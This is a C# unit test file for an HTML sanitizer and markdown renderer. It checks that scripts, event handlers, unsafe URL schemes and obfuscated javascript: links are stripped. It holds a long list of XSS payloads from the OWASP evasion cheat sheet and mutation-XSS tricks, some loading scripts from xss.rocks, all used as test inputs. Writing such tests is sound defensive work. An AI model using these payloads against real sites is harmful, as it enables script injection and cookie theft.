using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Atelier.Platform.Html;

namespace Atelier.Tests.Platform.Html;

public sealed class HtmlSanitizerTests
{
    [Fact]
    public void AllowedMarkup_PassesUnchanged()
    {
        const string html =
            "<h2 id=\"x\" class=\"c\" title=\"t\" lang=\"ru\" dir=\"rtl\">Заголовок</h2><p>Текст <strong>жирный</strong> <em>курсив</em> " +
            "<mark>важно</mark> <del>было</del> <ins>стало</ins> <sub>1</sub><sup>2</sup> <code>x</code> <kbd>K</kbd> " +
            "<abbr title=\"HyperText\">HTML</abbr> <q>цитата</q> <time datetime=\"2025-03-01\">1 марта</time></p>" +
            "<ol start=\"3\"><li>три</li></ol><details open><summary>Итог</summary><div data-patch=\"p-1\">x</div></details>" +
            "<table><tbody><tr><td colspan=\"2\" style=\"text-align: center\">я</td></tr></tbody></table>" +
            "<figure><img src=\"/a.png\" alt=\"А\" width=\"10\" height=\"20\" loading=\"lazy\"><figcaption>Подпись</figcaption></figure>" +
            "<video controls preload=\"metadata\" poster=\"/p.jpg\"><source src=\"/v.mp4\" type=\"video/mp4\"></video>";

        HtmlSanitizer.Sanitize(html).ShouldBe(html);
    }

    [Fact]
    public void Script_IsRemovedWithItsContent() =>
        HtmlSanitizer.Sanitize("<p>до<script>alert('x')</script>после</p>").ShouldBe("<p>допосле</p>");

    [Theory]
    [InlineData("<style>body{display:none}</style>")]
    [InlineData("<template><p>x</p></template>")]
    [InlineData("<noscript><p>x</p></noscript>")]
    [InlineData("<svg><text>x</text></svg>")]
    [InlineData("<math><mi>x</mi></math>")]
    [InlineData("<iframe src=\"/x\">x</iframe>")]
    [InlineData("<textarea>x</textarea>")]
    public void RawTextAndForeignElements_AreRemovedWithTheirContent(string html) =>
        HtmlSanitizer.Sanitize($"<p>а{html}б</p>").ShouldBe("<p>аб</p>");

    [Fact]
    public void UnknownElements_AreUnwrapped_KeepingTheirText() =>
        HtmlSanitizer.Sanitize("<form action=\"/x\"><font color=\"red\">красный <b>жирный</b></font><button>кнопка</button></form>")
            .ShouldBe("красный <b>жирный</b>кнопка");

    [Fact]
    public void Comments_AreRemoved() =>
        HtmlSanitizer.Sanitize("<p>а<!-- секрет -->б</p>").ShouldBe("<p>аб</p>");

    [Fact]
    public void EventHandlersAndStyles_AreRemoved() =>
        HtmlSanitizer.Sanitize("<p onclick=\"x()\" onmouseover=\"y()\" style=\"color:red\" class=\"c\">x</p>").ShouldBe("<p class=\"c\">x</p>");

    [Fact]
    public void AttributesOfOtherElements_AreRemoved() =>
        HtmlSanitizer.Sanitize("<p href=\"/x\" src=\"/y\" width=\"3\">x</p><img src=\"/a.png\" srcset=\"/b.png 2x\" usemap=\"#m\">")
            .ShouldBe("<p>x</p><img src=\"/a.png\">");

    [Fact]
    public void DataAttributes_AreKeptOnlyWithPlainNames() =>
        HtmlSanitizer.Sanitize("<span data-model data-x-1=\"a\" data-on_click=\"b\" data-=\"c\" data-Ok=\"d\">x</span>")
            .ShouldBe("<span data-model data-x-1=\"a\" data-ok=\"d\">x</span>");

    [Fact]
    public void MediaPlayers_PassUnchanged()
    {
        const string html =
            "<atelier-audio data-waveform=\"/media/1/waveform.json?v=abc\" data-title=\"Песня\" data-artist=\"A\" data-album=\"B\" data-cover=\"/media/1/cover.jpg\">" +
            "<audio controls preload=\"metadata\" src=\"/media/1/song.mp3\"></audio></atelier-audio>" +
            "<atelier-video><video controls preload=\"none\" playsinline poster=\"/media/2/poster.jpg\" src=\"/media/2/clip.mp4\" width=\"640\" height=\"360\"></video></atelier-video>" +
            "<atelier-model data-src=\"/media/3/scene.glb\" data-alt=\"Стул\"><a href=\"/media/3/scene.glb\">scene.glb</a></atelier-model>" +
            "<atelier-gallery><figure data-full=\"https://cdn.example/w2048.webp\" data-caption=\"Подпись\"><a href=\"/o.jpg\"><img src=\"/w640.jpg\" alt=\"А\"></a>" +
            "<figcaption>Подпись</figcaption></figure></atelier-gallery>";

        HtmlSanitizer.Sanitize(html).ShouldBe(html);
    }

    [Theory]
    [InlineData("<atelier-model data-src=\"javascript:alert(1)\" data-alt=\"x\"></atelier-model>", "<atelier-model data-alt=\"x\"></atelier-model>")]
    [InlineData("<atelier-audio data-waveform=\"data:application/json,{}\" data-cover=\" vbscript:x\"></atelier-audio>", "<atelier-audio></atelier-audio>")]
    [InlineData("<figure data-full=\"jav&#x09;ascript:alert(1)\" data-caption=\"javascript:is just text here\"></figure>", "<figure data-caption=\"javascript:is just text here\"></figure>")]
    [InlineData("<atelier-video data-poster=\"file:///etc/passwd\" onplay=\"alert(1)\" style=\"color:red\"></atelier-video>", "<atelier-video></atelier-video>")]
    public void PlayerUrlDataAttributes_AreCheckedLikeSrc(string html, string expected) =>
        HtmlSanitizer.Sanitize(html).ShouldBe(expected);

    [Fact]
    public void TableCellStyle_KeepsOnlyTextAlign() =>
        HtmlSanitizer.Sanitize("<table><tr><td style=\"TEXT-ALIGN:Right;\">a</td><td style=\"text-align: left; background: url(x)\">b</td></tr></table>")
            .ShouldBe("<table><tbody><tr><td style=\"text-align: right\">a</td><td>b</td></tr></tbody></table>");

    [Theory]
    [InlineData("<input type=\"checkbox\" checked onclick=\"x()\">", "<input type=\"checkbox\" disabled checked>")]
    [InlineData("<input type=\"CHECKBOX\" disabled=\"disabled\">", "<input type=\"checkbox\" disabled>")]
    [InlineData("<input type=\"text\" value=\"x\">", "")]
    [InlineData("<input type=\"image\" src=\"javascript:alert(1)\">", "")]
    [InlineData("<input>", "")]
    public void Input_OnlyDisabledCheckboxesSurvive(string html, string expected) =>
        HtmlSanitizer.Sanitize(html).ShouldBe(expected);

    [Theory]
    [InlineData("https://example.com/a?b=c#d")]
    [InlineData("http://example.com")]
    [InlineData("mailto:me@example.com")]
    [InlineData("/relative/path")]
    [InlineData("#fragment")]
    [InlineData("./here")]
    [InlineData("../up")]
    [InlineData("page.html")]
    [InlineData("?q=1")]
    [InlineData("/path/with:colon")]
    [InlineData("")]
    public void SafeUrls_AreKept(string url) => HtmlSanitizer.IsSafeUrl(url).ShouldBeTrue();

    [Theory]
    [InlineData("javascript:alert(1)")]
    [InlineData("JaVaScRiPt:alert(1)")]
    [InlineData(" javascript:alert(1)")]
    [InlineData("\u0001javascript:alert(1)")]
    [InlineData("java\tscript:alert(1)")]
    [InlineData("java\nscript:alert(1)")]
    [InlineData("java\u0000script:alert(1)")]
    [InlineData("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")]
    [InlineData("data:image/svg+xml,<svg onload=alert(1)>")]
    [InlineData("vbscript:msgbox(1)")]
    [InlineData("file:///etc/passwd")]
    [InlineData("ftp://example.com")]
    public void UnsafeUrls_AreRejected(string url) => HtmlSanitizer.IsSafeUrl(url).ShouldBeFalse();

    [Theory]
    [InlineData("<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>")]
    [InlineData("<a href=\" &#14;  javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"javas&#99;ript:alert(1)\">x</a>")]
    public void EntityObfuscatedJavascriptUrls_LoseTheirHref(string html) =>
        HtmlSanitizer.Sanitize(html).ShouldBe("<a>x</a>");

    [Fact]
    public void ExternalLinks_GetNoopener_AndKeepTheirRel() =>
        HtmlSanitizer.Sanitize("<a href=\"https://e.com\" target=\"_blank\">a</a><a href=\"//e.com\" rel=\"NoFollow\">b</a><a href=\"/in\">c</a><a href=\"mailto:x@e.com\">d</a>")
            .ShouldBe("<a href=\"https://e.com\" rel=\"noopener\">a</a><a href=\"//e.com\" rel=\"nofollow noopener\">b</a><a href=\"/in\">c</a><a href=\"mailto:x@e.com\">d</a>");

    [Fact]
    public void Text_IsEscapedOnOutput() =>
        HtmlSanitizer.Sanitize("<p>1 &lt; 2 &amp;&amp; &quot;кавычки&quot; &nbsp;</p>").ShouldBe("<p>1 &lt; 2 &amp;&amp; \"кавычки\" &nbsp;</p>");

    [Fact]
    public void AttributeValues_AreEscapedOnOutput() =>
        HtmlSanitizer.Sanitize("<p title='a\"b<c>&amp;'>x</p>").ShouldBe("<p title=\"a&quot;b&lt;c&gt;&amp;\">x</p>");

    [Fact]
    public void PreLeadingNewline_SurvivesARoundTrip() =>
        HtmlSanitizer.Sanitize("<pre>\n\nкод</pre>").ShouldBe("<pre>\n\nкод</pre>");

    [Fact]
    public void DeepNesting_IsFlattenedToText()
    {
        // Speed is a benchmark's business; here: 200,000 unclosed elements neither crash nor survive as markup.
        var html = string.Concat(Enumerable.Repeat("<div>", 200_000)) + "текст";

        HtmlSanitizer.Sanitize(html).Trim().ShouldBe("текст");
    }

    [Fact]
    public void ManySiblings_AreAllCleaned()
    {
        var html = string.Concat(Enumerable.Repeat("<a href=\"/t\">#t</a> <font>x</font><!--c-->", 20_000));

        HtmlSanitizer.Sanitize(html).ShouldBe(string.Concat(Enumerable.Repeat("<a href=\"/t\">#t</a> x", 20_000)));
    }

    /// <summary>The OWASP XSS filter evasion cheat sheet, and mutation-XSS classics.</summary>
    public static TheoryData<string> XssVectors =>
    [
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<td style=\"text-align: left; background: url(javascript:alert(1))\">x</td>",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\">",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "<audio src=x onerror=alert(1)>",
        "<video poster=javascript:alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<isindex action=javascript:alert(1) type=image>",
        "<object data=\"javascript:alert(1)\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&#x0;script:alert(1)\">x</a>",
        "<div id=\"x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onclick=\"alert(1)\">x</div>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<title><img src=x onerror=alert(1)></title>",
        "<textarea></textarea><img src=x onerror=alert(1)>",
        "<style><img src=x onerror=alert(1)></style>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></textarea></mtext></svg></mglyph></mi></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
        "<meta charset=\"x-imap4-modified-utf7\">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA&AG8Abg&AGUAcgByAG8AcgA9AGEAbABlAHIAdAAoADEAKQ&ACAAPABi",
        "<a href=\"https://example.com\" target=\"_blank\" rel=\"opener\">x</a>",
        // The media players' custom elements: allowed, but never with handlers, styles or unsafe URLs in what they load.
        "<atelier-audio data-waveform=\"javascript:alert(1)\" onclick=\"alert(1)\"><audio src=\"javascript:alert(1)\" onplay=\"alert(1)\"></audio></atelier-audio>",
        "<atelier-model data-src=\"JaVaScRiPt:alert(1)\" data-alt=\"\"><a href=\"javascript:alert(1)\">m</a></atelier-model>",
        "<atelier-model data-src=\"&#x6A;avascript&colon;alert(1)\"></atelier-model>",
        "<atelier-video style=\"background:url(javascript:alert(1))\"><video poster=\"javascript:alert(1)\" src=\"data:video/mp4,x\" playsinline onloadstart=\"alert(1)\"></video></atelier-video>",
        "<atelier-gallery><figure data-full=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"><img src=x onerror=alert(1) style=\"background:url(javascript:alert(1))\"></figure></atelier-gallery>",
        "<atelier-audio data-cover=\"vbscript:msgbox(1)\" is=\"x-evil\"><script>alert(1)</script></atelier-audio>",
        "<atelier-gallery><svg><script>alert(1)</script></svg><template><img src=x onerror=alert(1)></template></atelier-gallery>",
        "<atelier-frame src=\"javascript:alert(1)\"><iframe src=\"javascript:alert(1)\"></iframe></atelier-frame>",
    ];

    [Theory]
    [MemberData(nameof(XssVectors))]
    public void XssVector_LeavesNothingExecutable(string vector)
    {
        var clean = HtmlSanitizer.Sanitize(vector);

        AssertSafe(clean);
        // What a browser re-reads from our output is what we checked: sanitizing again changes nothing.
        HtmlSanitizer.Sanitize(clean).ShouldBe(clean);
    }

    [Theory]
    [MemberData(nameof(XssVectors))]
    public void XssVector_InMarkdown_LeavesNothingExecutable(string vector) =>
        AssertSafe(new Atelier.Features.Publishing.Markdown.ObsidianRenderer()
            .Render($"Текст\n\n{vector}\n\n[x]({vector}) ![y]({vector})", new Publishing.Markdown.FakeNoteLinks()).Html);

    private static readonly HashSet<string> Allowed =
    [
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "a", "strong", "em", "b", "i", "u", "s", "del", "ins", "mark",
        "sub", "sup", "small", "code", "pre", "kbd", "samp", "blockquote", "ul", "ol", "li", "dl", "dt", "dd", "table",
        "thead", "tbody", "tfoot", "tr", "th", "td", "caption", "colgroup", "col", "img", "figure", "figcaption", "audio",
        "video", "source", "details", "summary", "div", "span", "section", "abbr", "cite", "q", "time", "input",
        "atelier-audio", "atelier-video", "atelier-model", "atelier-gallery",
    ];

    /// <summary>Reads the output as a browser would and checks every element, attribute and URL in it.</summary>
    private static void AssertSafe(string html)
    {
        html.ShouldNotContain("<script", Case.Insensitive);
        html.ShouldNotContain("<!--");
        var parser = new HtmlParser(new HtmlParserOptions { IsScripting = true });
        var document = parser.ParseDocument("<!DOCTYPE html><body>" + html);
        foreach (var element in document.Body!.Descendants<IElement>())
        {
            Allowed.ShouldContain(element.LocalName, html);
            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml", html);
            foreach (var attribute in element.Attributes)
            {
                attribute.Name.ShouldNotStartWith("on", Case.Insensitive, html);
                if (attribute.Name == "style")
                {
                    element.LocalName.ShouldBeOneOf(["td", "th"], html);
                    attribute.Value.ShouldMatch("^text-align: (left|center|right)$");
                }

                if (attribute.Name is "href" or "src" or "poster" or "action" or "formaction" or "background"
                    or "data-src" or "data-waveform" or "data-cover" or "data-poster" or "data-full")
                {
                    var url = new string(attribute.Value.Where(c => c > ' ').ToArray());
                    url.ShouldNotMatch("^(?i)(javascript|vbscript|data|file):.*", html);
                }
            }

            if (element.LocalName == "input")
            {
                element.GetAttribute("type").ShouldBe("checkbox", html);
                element.HasAttribute("disabled").ShouldBeTrue(html);
            }
        }
    }
}
